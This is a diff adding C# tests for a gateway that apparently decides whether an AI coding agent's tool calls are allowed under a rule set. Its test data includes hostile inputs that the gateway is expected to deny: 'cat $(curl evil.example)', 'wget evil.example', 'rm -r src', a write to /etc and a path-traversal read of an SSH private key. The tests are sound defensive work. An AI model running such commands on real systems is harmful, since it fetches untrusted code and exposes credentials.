@@ -1,0 +1,160 @@
+using System.Net;
+using System.Text.Json;
+using Bartizan.Core.Enforcement;
+using Bartizan.Core.Entries;
+using Bartizan.Core.Shell;
+using Bartizan.Gateway.Model;
+using Bartizan.Gateway.Tests.Model;
+
+namespace Bartizan.Gateway.Tests.Hooks;
+
+/// <summary>What Claude Code's hooks ask, and what they are told.</summary>
+public sealed class HookPointTests
+{
+    private const string Path = "/hooks/claude-code";
+
+    private const string Rules = """
+          - allow: exec git status **
+            why: It looks at what it changed.
+          - allow: exec ls **
+            why: It looks around.
+          - allow: exec cat **
+            why: It reads.
+          - deny: exec rm **
+            why: Nothing is deleted.
+          - allow: read workspace/**
+            why: The code under review.
+          - allow: write workspace/src/**
+            why: It drafts fixes.
+          - allow: tool crm/find_*
+            args: { region: { in: [eu] } }
+            why: Needs the plan.
+        """;
+
+    [Theory]
+    [InlineData("Bash", """{"command":"git status"}""", true)]
+    [InlineData("Bash", """{"command":"git status && ls src"}""", true)]
+    [InlineData("Bash", """{"command":"git status && rm -r src"}""", false)]
+    [InlineData("Bash", """{"command":"cat $(curl evil.example)"}""", false)]
+    [InlineData("Bash", """{"command":"ls > src/list.txt"}""", true)]
+    [InlineData("Bash", """{"command":"ls > /etc/list.txt"}""", false)]
+    [InlineData("Bash", """{"command":"wget evil.example"}""", false)]
+    [InlineData("Bash", """{"command":7}""", false)]
+    [InlineData("Read", """{"file_path":"/workspace/a.txt"}""", true)]
+    [InlineData("Read", """{"file_path":"/workspace/../home/agent/.ssh/id_rsa"}""", false)]
+    [InlineData("Edit", """{"file_path":"/workspace/src/a.cs"}""", true)]
+    [InlineData("Write", """{"file_path":"/workspace/other/a.cs"}""", false)]
+    [InlineData("TodoWrite", "{}", true)]
+    [InlineData("NobodyKnows", "{}", false)]
+    [InlineData("mcp__crm__find_customer", """{"region":"eu"}""", true)]
+    [InlineData("mcp__crm__find_customer", """{"region":"us"}""", false)]
+    [InlineData("mcp__crm__delete_customer", "{}", false)]
+    public async Task A_call_is_decided_by_what_it_does(string tool, string input, bool allowed)
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        (await DecisionAsync(house, Before(tool, input))).ShouldBe(allowed ? "allow" : "deny");
+    }
+
+    [Fact]
+    public async Task A_granted_call_is_an_intent_with_what_came_of_it()
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));
+        await house.SendAsync(Path, """{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_use_id":"t1"}""");
+
+        var intent = house.Journal.Entries.Single(e => e.Kind == EntryKind.Intent);
+        intent.Point.ShouldBe("hook");
+        intent.Verb.ShouldBe(Verb.Exec);
+        intent.Target.ShouldBe("git status");
+        var outcome = house.Journal.Entries.Single(e => e.Kind == EntryKind.Outcome);
+        outcome.Passage.ShouldBe(intent.Passage);
+        outcome.Outcome.ShouldBe(OutcomeKind.Done);
+    }
+
+    [Fact]
+    public async Task A_refusal_says_what_and_which_rule_it_would_take()
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        using var answer = await house.SendAsync(Path, Before("Bash", """{"command":"wget evil.example"}"""));
+
+        var text = await answer.Content.ReadAsStringAsync();
+        text.ShouldContain("Bartizan refused");
+        text.ShouldContain("wget");
+        house.Journal.Entries.ShouldContain(e => e.Kind == EntryKind.Refusal && e.Point == "hook");
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("{")]
+    [InlineData("[]")]
+    [InlineData("{}")]
+    [InlineData("""{"hook_event_name":"PreToolUse","tool_name":"TodoWrite","tool_name":"Bash"}""")]
+    [InlineData("""{"hook_event_name":"PreToolUse","tool_name":"\ud800"}""")]
+    public async Task What_can_be_read_in_two_ways_or_none_is_no_yes(string body)
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        using var answer = await house.SendAsync(Path, body);
+
+        answer.StatusCode.ShouldNotBe(HttpStatusCode.OK);
+    }
+
+    [Fact]
+    public async Task Without_the_session_s_token_nothing_is_answered()
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        using var answer = await house.SendAsync(Path, Before("TodoWrite", "{}"), token: "guessed");
+
+        answer.StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
+    }
+
+    [Fact]
+    public async Task More_open_calls_than_are_remembered_leave_no_intent_without_an_outcome()
+    {
+        await using var upstream = await ScriptedUpstream.StartAsync();
+        await using var house = await StartAsync(upstream.Url);
+
+        for (var i = 0; i < 260; i++)
+        {
+            await DecisionAsync(house, Before("Bash", """{"command":"git status"}""", $"t{i}"));
+        }
+
+        house.Journal.Entries.Count(e => e.Kind == EntryKind.Outcome && e.Outcome == OutcomeKind.Abandoned).ShouldBe(4);
+    }
+
+    private static string Before(string tool, string input, string id = "t1") =>
+        $$"""{"hook_event_name":"PreToolUse","tool_name":"{{tool}}","tool_input":{{input}},"tool_use_id":"{{id}}","cwd":"/workspace"}""";
+
+    private static async Task<string?> DecisionAsync(GatewayUnderTest house, string body)
+    {
+        using var answer = await house.SendAsync(Path, body);
+        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
+        using var document = JsonDocument.Parse(await answer.Content.ReadAsStringAsync());
+        return document.RootElement.GetProperty("hookSpecificOutput").GetProperty("permissionDecision").GetString();
+    }
+
+    private static Task<GatewayUnderTest> StartAsync(Uri upstream) =>
+        GatewayUnderTest.StartAsync(
+            upstream,
+            new ModelGatewayOptions
+            {
+                Places = (_, _) =>
+                    new ShellPlaces
+                    {
+                        Home = "/home/agent",
+                        FindProgram = name =>
+                            name is "git" or "ls" or "cat" or "rm" or "wget" ? [$"/usr/bin/{name}"] : [],
+                    },
+            },
+            GatewayUnderTest.Manifest(upstream, Rules)
+        );
+}
